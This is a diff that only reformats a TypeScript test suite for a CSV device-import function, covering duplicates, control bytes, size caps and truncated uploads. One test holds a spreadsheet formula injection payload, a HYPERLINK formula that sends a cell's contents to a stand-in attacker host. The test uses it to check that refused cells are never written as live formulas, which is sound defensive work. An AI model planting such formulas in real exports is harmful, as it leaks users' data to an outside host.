@@ -3,7 +3,13 @@ import { Readable } from "node:stream";
 import { eq, sql } from "drizzle-orm";
 import { getDb } from "@/db/client";
 import { deviceImports, devices } from "@/db/schema";
-import { importDevicesCsv, ImportFormatError, importReportChunks, ImportStopped, IMPORT_MAX_LINE_BYTES } from "./csv-import";
+import {
+  importDevicesCsv,
+  ImportFormatError,
+  importReportChunks,
+  ImportStopped,
+  IMPORT_MAX_LINE_BYTES,
+} from "./csv-import";
 
 const csv = (text: string) => Readable.from([Buffer.from(text)]);
 
@@ -14,7 +20,10 @@ async function reportOf(importId: number): Promise<string[]> {
 }
 
 async function deviceCount(prefix: string): Promise<number> {
-  const [row] = await getDb().select({ n: sql<number>`count(*)::int` }).from(devices).where(sql`registration_id like ${`${prefix}%`}`);
+  const [row] = await getDb()
+    .select({ n: sql<number>`count(*)::int` })
+    .from(devices)
+    .where(sql`registration_id like ${`${prefix}%`}`);
   return row!.n;
 }
 
@@ -46,7 +55,14 @@ describe("CSV import", () => {
       ),
       { fileName: "fleet.csv", actor: null },
     );
-    expect(summary).toMatchObject({ status: "complete", stopReason: null, total: 8, added: 3, duplicates: 2, refused: 3 });
+    expect(summary).toMatchObject({
+      status: "complete",
+      stopReason: null,
+      total: 8,
+      added: 3,
+      duplicates: 2,
+      refused: 3,
+    });
     expect(summary.problems.map((p) => [p.line, p.result])).toEqual([
       [4, "duplicate"],
       [5, "duplicate"],
@@ -76,13 +92,19 @@ describe("CSV import", () => {
     rows.push("batchdup-3,,", "olddev-1,,");
     const summary = await importDevicesCsv(csv(rows.join("\n")), { fileName: null, actor: null });
     expect(summary).toMatchObject({ total: 1502, added: 1500, duplicates: 2 });
-    expect(summary.problems.map((p) => p.reason)).toEqual(["the same registration ID appears earlier in the file", "a device with this registration ID already exists"]);
+    expect(summary.problems.map((p) => p.reason)).toEqual([
+      "the same registration ID appears earlier in the file",
+      "a device with this registration ID already exists",
+    ]);
   });
 
   it("writes refused cells into the report bounded and never as a live formula", async () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
     const long = `x${"y".repeat(5000)}!`;
-    const summary = await importDevicesCsv(csv(`registrationId,name\n"${formula.replaceAll('"', '""')}",\n${long},\n@SUM(1),\n`), { fileName: null, actor: null });
+    const summary = await importDevicesCsv(
+      csv(`registrationId,name\n"${formula.replaceAll('"', '""')}",\n${long},\n@SUM(1),\n`),
+      { fileName: null, actor: null },
+    );
     expect(summary.refused).toBe(3);
     const report = (await reportOf(summary.importId)).join("\n");
     expect(report).not.toMatch(/(^|,|")=HYPERLINK/m);
@@ -93,30 +115,44 @@ describe("CSV import", () => {
   });
 
   it("stores a refused line's NUL and control bytes as a visible mark, never failing the import", async () => {
-    const summary = await importDevicesCsv(csv("ok-nul-1\nbad\u0000id\nname-nul,a\u0000b\n"), { fileName: "fleet\u0000.csv", actor: null });
+    const summary = await importDevicesCsv(csv("ok-nul-1\nbad\u0000id\nname-nul,a\u0000b\n"), {
+      fileName: "fleet\u0000.csv",
+      actor: null,
+    });
     expect(summary).toMatchObject({ status: "complete", added: 1, refused: 2 });
     expect((await reportOf(summary.importId)).join("\n")).toContain("bad\ufffdid");
   });
 
   it("accepts a file without a header in the documented column order", async () => {
-    const summary = await importDevicesCsv(csv("noheader-1,One\nnoheader-2,Two\n"), { fileName: null, actor: null });
+    const summary = await importDevicesCsv(csv("noheader-1,One\nnoheader-2,Two\n"), {
+      fileName: null,
+      actor: null,
+    });
     expect(summary).toMatchObject({ total: 2, added: 2 });
   });
 
   it("imports thousands of rows in batches", async () => {
     const rows = Array.from({ length: 5000 }, (_, i) => `bulk-${i},Device ${i},`).join("\n");
-    const summary = await importDevicesCsv(csv(`registrationId,name,payload\n${rows}`), { fileName: null, actor: null });
+    const summary = await importDevicesCsv(csv(`registrationId,name,payload\n${rows}`), {
+      fileName: null,
+      actor: null,
+    });
     expect(summary).toMatchObject({ total: 5000, added: 5000, refused: 0 });
     expect(summary.addedDeviceIds).toHaveLength(5000);
     expect(await reportOf(summary.importId)).toHaveLength(5001);
   });
 
   it("refuses an empty file with a clear message", async () => {
-    await expect(importDevicesCsv(csv(""), { fileName: null, actor: null })).rejects.toBeInstanceOf(ImportFormatError);
+    await expect(importDevicesCsv(csv(""), { fileName: null, actor: null })).rejects.toBeInstanceOf(
+      ImportFormatError,
+    );
   });
 
   it("never reads a cut-short upload's partial last line as a device, and records the import as cut short", async () => {
-    const summary = await importDevicesCsv(cutShort(["registrationId\ncut-aaaa-1\ncut-aaaa-2\ncut-aaaa-3", "33"]), { fileName: "cut.csv", actor: null });
+    const summary = await importDevicesCsv(
+      cutShort(["registrationId\ncut-aaaa-1\ncut-aaaa-2\ncut-aaaa-3", "33"]),
+      { fileName: "cut.csv", actor: null },
+    );
     expect(summary).toMatchObject({ status: "cut-short", stopReason: "client-gone", total: 2, added: 2 });
     expect(await deviceCount("cut-aaaa-3")).toBe(0);
     const [row] = await getDb().select().from(deviceImports).where(eq(deviceImports.id, summary.importId));
@@ -126,7 +162,11 @@ describe("CSV import", () => {
   it("stops at the byte cap while streaming and reports only what it added", async () => {
     const body = `registrationId\n${Array.from({ length: 3000 }, (_, i) => `cap-${String(i).padStart(5, "0")}`).join("\n")}\n`;
     const chunks = body.match(/[\s\S]{1,4096}/g)!.map((c) => Buffer.from(c));
-    const summary = await importDevicesCsv(Readable.from(chunks), { fileName: null, actor: null, maxBytes: 10_000 });
+    const summary = await importDevicesCsv(Readable.from(chunks), {
+      fileName: null,
+      actor: null,
+      maxBytes: 10_000,
+    });
     expect(summary).toMatchObject({ status: "cut-short", stopReason: "too-large" });
     expect(summary.added).toBeGreaterThan(0);
     expect(summary.added).toBeLessThan(3000);
@@ -135,11 +175,16 @@ describe("CSV import", () => {
   });
 
   it("stops a stream that ends before its announced length", async () => {
-    await expect(importDevicesCsv(csv("early-1\n"), { fileName: null, actor: null, expectedBytes: 1000 })).resolves.toMatchObject({ status: "cut-short", stopReason: "upload-incomplete", added: 1 });
+    await expect(
+      importDevicesCsv(csv("early-1\n"), { fileName: null, actor: null, expectedBytes: 1000 }),
+    ).resolves.toMatchObject({ status: "cut-short", stopReason: "upload-incomplete", added: 1 });
   });
 
   it("refuses a line far longer than any device line before holding it in memory", async () => {
-    const error = await importDevicesCsv(Readable.from([Buffer.from(`x${"y".repeat(IMPORT_MAX_LINE_BYTES)}`)]), { fileName: null, actor: null }).catch((e: unknown) => e);
+    const error = await importDevicesCsv(
+      Readable.from([Buffer.from(`x${"y".repeat(IMPORT_MAX_LINE_BYTES)}`)]),
+      { fileName: null, actor: null },
+    ).catch((e: unknown) => e);
     expect(error).toBeInstanceOf(ImportStopped);
     expect((error as ImportStopped).reason).toBe("line-too-long");
   });
